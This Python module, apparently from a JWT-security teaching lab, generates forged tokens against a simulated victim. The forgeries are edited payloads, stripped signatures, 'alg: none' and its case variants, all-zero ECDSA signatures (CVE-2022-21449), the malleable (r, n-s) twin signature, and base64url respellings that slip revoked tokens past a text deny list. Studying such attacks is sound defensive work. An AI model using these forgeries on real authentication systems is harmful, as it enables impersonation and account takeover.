"""Forgeries of the signature: not checked, not there, of zeros, or spelled in another way."""

import json
from collections.abc import Iterator

from authlab.attacks.forging import VICTIM, Scene, forgery
from authlab.attacks.issuer import ALGORITHMS, JWKS, TYP, write_token
from authlab.attacks.plain_ecdsa import N
from authlab.jose import b64url_decode, b64url_encode

__all__ = ["ODDLY_SIGNED", "UNCHECKED"]

_ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
_ES256_KID = next(key["kid"] for key in JWKS["keys"] if key["alg"] == "ES256")
_OWN, _ENDED = "a token of her own", "a copy of a token of Alice's, which she has ended"


@forgery("Edit the payload", _OWN, "unchecked", "CWE-347")
def edit(scene: Scene) -> Iterator[str]:
    """Change the payload of her own token, and leave the signature as it was."""
    for alg in ALGORITHMS:
        header, payload, signature = scene.get_token(alg=alg).split(".")
        claims = json.loads(b64url_decode(payload)) | {"sub": VICTIM}
        scene.say(f"writes {VICTIM} into sub, and keeps the signature")
        yield f"{header}.{b64url_encode(json.dumps(claims).encode())}.{signature}"


@forgery("Strip the signature", _OWN, "stripped", "CWE-347")
def strip(scene: Scene) -> Iterator[str]:
    """Cut the signature off; the header still names its algorithm."""
    for alg in ALGORITHMS:
        header = scene.get_token(alg=alg).split(".")[0]
        payload = b64url_encode(json.dumps(scene.claims()).encode())
        scene.say("cuts the signature off; the dot stays")
        yield f"{header}.{payload}."


@forgery("Say none", "nothing", "none", "CWE-347")
def none(scene: Scene) -> Iterator[str]:
    """Name the algorithm none, which needs no signature (RFC 7515, appendix A.5)."""
    scene.say("writes a token that says it has no signature", '"alg":"none"')
    yield write_token({"alg": "none", "typ": TYP}, scene.claims())


@forgery("Say nOnE", "nothing", "none_case", "CWE-178", "CWE-347")
def none_case(scene: Scene) -> Iterator[str]:
    """Spell none in other cases, past a list of what is forbidden."""
    for alg in ("None", "NONE", "nOnE"):
        scene.say("spells none in another way", f'"alg":"{alg}"')
        yield write_token({"alg": alg, "typ": TYP}, scene.claims())


@forgery("Sign with zeros", "nothing", "psychic", "CWE-347", "CVE-2022-21449")
def psychic(scene: Scene) -> Iterator[str]:
    """Sign with zeros: r = s = 0, and the same two numbers one turn further on, n."""
    header = {"alg": "ES256", "typ": TYP, "kid": _ES256_KID}
    for name, number in (("0", 0), ("n", N)):
        scene.say(f"signs by no key at all: r = s = {name}")
        signature = number.to_bytes(32, "big") * 2
        yield write_token(header, scene.claims()) + b64url_encode(signature)


@forgery("Use the second signature", _ENDED, "text_denylist", "CWE-613")
def twin(scene: Scene) -> Iterator[str]:
    """Make the other signature of an ended ES256 token: (r, n - s) fits whenever (r, s) does."""
    token = scene.get_token(VICTIM, alg="ES256")
    scene.revoke(token)
    head, _, text = token.rpartition(".")
    signature = b64url_decode(text)
    s = int.from_bytes(signature[32:], "big")
    scene.say("computes the second signature, without a key: (r, n - s)")
    yield f"{head}.{b64url_encode(signature[:32] + (N - s).to_bytes(32, 'big'))}"


@forgery("Spell the token anew", _ENDED, "text_denylist", "CWE-613")
def respell(scene: Scene) -> Iterator[str]:
    """Spell an ended token in another way: padding, unused bits, a character to skip."""
    token = scene.get_token(VICTIM)
    scene.revoke(token)
    # 256 bytes leave four bits over in the last letter: change the lowest of them.
    last = token[:-1] + _ALPHABET[_ALPHABET.index(token[-1]) ^ 1]
    for text, spelled in (
        ("pads the signature", f"{token}=="),
        ("changes the bits of the last letter that spell nothing", last),
        ("adds a character that many decoders skip", f"{token}!"),
    ):
        scene.say(text, spelled[len(token) - 6 :])
        yield spelled


UNCHECKED = [edit, strip, none, none_case]
ODDLY_SIGNED = [psychic, twin, respell]
